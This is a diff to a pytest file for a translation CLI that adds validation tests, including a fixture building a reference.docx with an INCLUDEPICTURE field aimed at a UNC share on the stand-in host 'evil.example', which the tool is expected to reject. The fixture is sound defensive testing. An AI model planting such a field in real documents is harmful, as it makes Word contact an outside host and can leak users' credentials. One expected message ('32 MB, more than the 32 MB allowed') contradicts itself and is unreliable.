@@ -26,6 +26,7 @@ import pytest
 from click.testing import CliRunner
 
 from conftest import requires_apertium
+from docx_helpers import save, simple_field
 from fs_helpers import ROOT, fill, run_cli, tmpfs
 from translate.cli import cli
 from translate.model import Article, ArticleMeta, Block, BlockKind, Run
@@ -184,6 +185,10 @@ def _templates_dangling(folder: Path) -> None:
     folder.symlink_to(folder.parent / "nowhere")
 
 
+def _reference_with_field(folder: Path) -> None:
+    save(simple_field(' INCLUDEPICTURE "\\\\\\\\evil.example\\\\share\\\\a.png" \\d '), folder / "reference.docx")
+
+
 def _templates_unreadable(tmp: Path, base: Path, mounts: ExitStack) -> Built:
     workspace = _copy(base, tmp)
     (workspace / "templates").mkdir()
@@ -267,6 +272,26 @@ BUILT_CASES = {
                                             r"templates: a symbolic link to .*nowhere, which does not exist"),
     "templates-unreadable-run": Case(_templates_unreadable,
                                      r"templates/article\.html: cannot read the template: permission denied"),
+    "templates-too-large-run": Case(_special("300MB", "WS/templates/base.html", "run", "SOURCE", "--to", "es"),
+                                    r"templates/base\.html: the template is 300 MB, more than the 1 MB allowed"),
+    "templates-too-large-publish": Case(_special("300MB", "WS/templates/base.html", "publish", "--release", "r"),
+                                        r"templates/base\.html: the template is 300 MB, more than the 1 MB allowed"),
+    "reference-docx-includepicture": Case(
+        _templates(_reference_with_field, "publish", "--release", "r"),
+        r"templates/reference\.docx: the reference document's part word/header1\.xml has an INCLUDEPICTURE field to "
+        r"'\\\\\\\\evil\.example\\\\share\\\\a\.png': Word fetches or runs what it names"),
+    "reference-docx-too-large": Case(
+        _special("32MB", "WS/templates/reference.docx", "publish", "--release", "r"),
+        r"reference\.docx: the reference document is 32 MB, more than the 32 MB allowed"),
+    "publish-lang-untranslated": Case(
+        _plain("publish", "--release", "Q", "--lang", "de", "--allow-unreviewed"),
+        r"no translations into de; run `translate run SOURCE --to de` first \(translated: es\)"),
+    "publish-lang-regional": Case(
+        _plain("publish", "--release", "Q", "--lang", "es-ES", "--allow-unreviewed"),
+        r"no translations into es-ES; es is translated: write the language without its region \(--lang es\)"),
+    "publish-lang-source": Case(
+        _plain("publish", "--release", "Q", "--lang", "en", "--allow-unreviewed"),
+        r"en is the source language; it is published anyway as the original: leave it out of --lang"),
     "release-name-too-long": Case(_plain("publish", "--release", "r" * 101),
                                   r"release name 'r+'… \(101 characters\) is too long: at most 100 characters"),
     "run-to-empty": Case(_plain("run", "SOURCE", "--to", ""), r"--to '' names no language; give codes such as"),
